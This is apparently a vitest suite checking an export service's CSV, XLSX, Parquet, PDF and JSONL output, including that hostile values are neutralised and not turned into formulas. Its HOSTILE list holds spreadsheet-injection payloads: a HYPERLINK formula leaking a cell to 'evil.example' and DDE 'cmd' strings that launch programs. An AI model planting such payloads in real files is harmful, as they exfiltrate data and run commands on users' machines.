// What each format holds, read back with independent readers: CSV re-parses (csv-parse) to exactly
// the rows written, with BOM/CRLF as asked; hostile cell values never become formulas in CSV or
// XLSX; Parquet columns are typed (DuckDB); the PDF has its cover, statistics and capped table.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRng, deriveSigningKey, generateRecord } from '../../../src/main/services/gen/generator';
import { DaySealer, GENESIS } from '../../../src/main/services/seal/sealer';
import { cellValue, columnFor } from '../../../src/main/services/export/columns';
import { neutralizeFormula } from '../../../src/main/services/export/writers/csv';
import { builtinProfile } from '../../../src/shared/redaction-profile';
import { ExportFixture, pdfText, readCsv, readParquet, sheetCells, unzipXlsx } from './export-fixture';

const fx = new ExportFixture();

/** "2026-11-19 07:45:40.7509" (DuckDB) and "2026-11-19T07:45:40.750900Z" (record) as micro-seconds. */
function micros(t: string): number {
  const m = /^(\d{4}-\d{2}-\d{2})[T ](\d{2}:\d{2}:\d{2})(?:\.(\d{1,6}))?Z?$/.exec(t);
  if (!m) throw new Error(`not a timestamp: ${t}`);
  return Date.parse(`${m[1]}T${m[2]}Z`) * 1000 + Number((m[3] ?? '').padEnd(6, '0'));
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'plain text, "quoted", and a\nline break',
];

/** A one-day sealed archive whose records carry hostile strings in title, blocking_reason and campaign_id. */
async function hostileArchive(dir: string): Promise<void> {
  await mkdir(path.join(dir, 'digests'), { recursive: true });
  const date = '2026-11-20';
  const file = `activations-${date}.jsonl`;
  const sealer = new DaySealer(file, date, GENESIS);
  const rng = createRng(5);
  let text = '';
  HOSTILE.forEach((h, i) => {
    const { record } = generateRecord(rng, { index: i, atMicros: Date.parse(`${date}T10:00:00Z`) * 1000 + i * 1_000_000, bodyKb: 0.3 });
    const r = record as unknown as Record<string, Record<string, unknown>>;
    r.content_input!.title = h;
    r.platform_publishing!.campaign_id = h;
    if (r.brand_voice_analysis) r.brand_voice_analysis.blocking_reason = h;
    text += sealer.sealLine(record as unknown as Record<string, unknown>);
  });
  await writeFile(path.join(dir, file), text);
  const { digest } = sealer.digest(deriveSigningKey(1));
  await writeFile(path.join(dir, 'digests', `activations-${date}.digest.json`), JSON.stringify(digest));
}

beforeAll(async () => {
  await fx.setup({ days: 2, perDay: 60, seed: 3 });
}, 60_000);
afterAll(() => fx.teardown());

describe('CSV', () => {
  it('re-parses to exactly the rows written (RFC 4180, CRLF, quoted line breaks)', async () => {
    const csv = await fx.export({ format: 'csv' });
    const jsonl = await fx.export({ format: 'jsonl' });
    const records = (await readFile(jsonl.file, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as unknown);
    const rows = await readCsv(csv.file);
    const header = rows[0]!;
    expect(header.slice(0, 2)).toEqual(['integrity.seq', 'integrity.record_hash']);
    expect(rows.length - 1).toBe(records.length);
    const cols = header.map(columnFor);
    const expected = records.map((rec) =>
      cols.map((c) => {
        const v = cellValue(rec, c);
        if (v === null) return '';
        if (typeof v === 'string') return neutralizeFormula(v);
        return String(v);
      }),
    );
    expect(rows.slice(1)).toEqual(expected);
    const bytes = await readFile(csv.file);
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(bytes.toString('utf8')).toContain('\r\n');
    // A body has line breaks: they sit inside a quoted field, never as a bare record end.
    expect(rows.slice(1).every((r) => r.length === header.length)).toBe(true);
  });

  it('--bom starts the file with a UTF-8 byte order mark', async () => {
    const csv = await fx.export({ format: 'csv', bom: true, fields: ['activation_id'] });
    const bytes = await readFile(csv.file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((await readCsv(csv.file))[0]).toEqual(['integrity.seq', 'integrity.record_hash', 'activation_id']);
  });
});

describe('hostile cell values never become formulas', () => {
  let index: Awaited<ReturnType<ExportFixture['reopen']>>;
  const fields = ['content_input.title', 'platform_publishing.campaign_id', 'brand_voice_analysis.blocking_reason'];
  beforeAll(async () => {
    const dir = path.join(fx.tmp, 'hostile');
    await hostileArchive(dir);
    index = await fx.reopen(dir);
  });

  it('CSV: every cell starting with = + - @ TAB CR (or a full-width =) gets a leading quote', async () => {
    const r = await fx.export({ format: 'csv', fields }, builtinProfile('internal'), index);
    const rows = (await readCsv(r.file)).slice(1);
    expect(rows.length).toBe(HOSTILE.length);
    rows.forEach((row, i) => {
      const h = HOSTILE[i]!;
      const want = /^[=+\-@\t\r＝]/.test(h) ? `'${h}` : h;
      expect(row[2]).toBe(want);
      expect(row[3]).toBe(want);
    });
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  it('XLSX: the same values are inline strings, with no formula anywhere', async () => {
    const r = await fx.export({ format: 'xlsx', fields }, builtinProfile('internal'), index);
    const files = await unzipXlsx(r.file);
    const sheets = Object.keys(files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBe(3);
    for (const s of sheets) expect(files[s]).not.toMatch(/<f[\s>]/);
    const cells = sheetCells(files['xl/worksheets/sheet1.xml']!);
    // Row 1 holds the labels, row 2 the record paths.
    expect(cells.find((c) => c.ref === 'C2')!.text).toBe('content_input.title');
    const titles = cells.filter((c) => /^C\d+$/.test(c.ref) && c.ref !== 'C1' && c.ref !== 'C2');
    expect(titles.length).toBe(HOSTILE.length);
    titles.forEach((c, i) => {
      expect(c.type).toBe('inlineStr');
      expect(c.formula).toBe(false);
      expect(c.text.replace(/\r\n?/g, '\n')).toBe(HOSTILE[i]!.replace(/\r\n?/g, '\n'));
    });
  });
});

describe('XLSX', () => {
  it('one row per record after the header, and an About sheet', async () => {
    const r = await fx.export({ format: 'xlsx' });
    const files = await unzipXlsx(r.file);
    const cells = sheetCells(files['xl/worksheets/sheet1.xml']!);
    const rows = new Set(cells.map((c) => Number(/\d+$/.exec(c.ref)![0])));
    expect(rows.size).toBe(r.report.records.exported + 2);
    expect(cells.find((c) => c.ref === 'A1')!.text).toBe('Seq');
    expect(cells.find((c) => c.ref === 'A2')!.text).toBe('integrity.seq');
    const about = sheetCells(files['xl/worksheets/sheet2.xml']!).map((c) => c.text).join('\n');
    expect(about).toContain('external-auditor');
    expect(about).toContain('VERIFIED');
    expect(about).toMatch(/All \d+ records verified/);
  });
});

describe('Parquet', () => {
  it('has typed columns that read back (DuckDB) to the exported values', async () => {
    const fields = ['timestamp', 'ai_enrichment.tokens.prompt', 'performance_metrics.total_ms', 'brand_voice_analysis.gate_passed', 'platform_publishing.status', 'errors', 'content_input.author.name'];
    const pq = await fx.export({ format: 'parquet', fields });
    const jsonl = await fx.export({ format: 'jsonl' });
    const { columns, rows } = await readParquet(pq.file);
    const type = Object.fromEntries(columns.map((c) => [c.name, c.type]));
    expect(type).toMatchObject({
      'integrity.seq': 'BIGINT',
      'integrity.record_hash': 'VARCHAR',
      timestamp: 'TIMESTAMP',
      'ai_enrichment.tokens.prompt': 'BIGINT',
      'performance_metrics.total_ms': 'DOUBLE',
      'brand_voice_analysis.gate_passed': 'BOOLEAN',
      'platform_publishing.status': 'VARCHAR',
      errors: 'VARCHAR',
    });
    type Exported = {
      integrity: { seq: number };
      timestamp: string;
      performance_metrics: { total_ms: number };
      brand_voice_analysis?: { gate_passed: boolean };
      ai_enrichment?: { tokens: { prompt: number } };
      errors: unknown[];
    };
    const records = (await readFile(jsonl.file, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as Exported);
    expect(rows.length).toBe(records.length);
    rows.forEach((row, i) => {
      const rec = records[i]!;
      expect(String(row['integrity.seq'])).toBe(String(rec.integrity.seq));
      expect(micros(row.timestamp as string)).toBe(micros(rec.timestamp));
      expect(row['performance_metrics.total_ms']).toBe(rec.performance_metrics.total_ms);
      expect(row['brand_voice_analysis.gate_passed']).toBe(rec.brand_voice_analysis?.gate_passed ?? null);
      expect(row['ai_enrichment.tokens.prompt'] === null ? null : Number(row['ai_enrichment.tokens.prompt'])).toBe(rec.ai_enrichment?.tokens.prompt ?? null);
      expect(JSON.parse(row.errors as string)).toEqual(rec.errors);
      expect(row['content_input.author.name']).toMatch(/^PERSON_\d+$/);
    });
  });
});

describe('PDF', () => {
  it('has the cover, the statistics over every record and a capped table saying so', async () => {
    const r = await fx.export({ format: 'pdf', query: 'status:published', pdfMaxRows: 5 });
    expect(r.report.records.exported).toBeGreaterThan(5);
    const text = await pdfText(r.file);
    expect(text).toContain('ActivationLog export: compliance report');
    expect(text).toContain('status:published');
    expect(text).toContain('external-auditor');
    expect(text).toContain('VERIFIED');
    expect(text).not.toContain('NOT FULLY VERIFIED');
    expect(text).toContain(`All ${r.report.records.exported} records verified`);
    expect(text).toMatch(/page 1 of \d+/);
    expect(text).toContain('Records by publishing status');
    expect(text).toContain('Latency percentiles');
    expect(text).toContain('AI cost by provider');
    expect(text).toContain(`The table shows the first 5 of ${r.report.records.exported} record(s)`);
    expect(r.report.stats!.total).toBe(r.report.records.exported);
    const manifest = JSON.parse(await readFile(r.manifest, 'utf8'));
    expect(manifest.export.rows_shown).toBe(5);
    expect(manifest.records.length).toBe(r.report.records.exported);
  });
});

describe('JSONL', () => {
  it('--fields keeps only those members, and the seal', async () => {
    const r = await fx.export({ format: 'jsonl', fields: ['timestamp', 'content_input.author.name'], query: 'provider:openai' });
    const lines = (await readFile(r.file, 'utf8')).trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.length).toBe(r.report.records.exported);
    for (const l of lines) {
      expect(Object.keys(l).sort()).toEqual(['content_input', 'integrity', 'timestamp']);
      expect(Object.keys(l.content_input)).toEqual(['author']);
      expect(l.content_input.author.name).toMatch(/^PERSON_\d+$/);
      expect(Object.keys(l.integrity).sort()).toEqual(['chain_hash', 'record_hash', 'seq', 'v']);
    }
  });
});
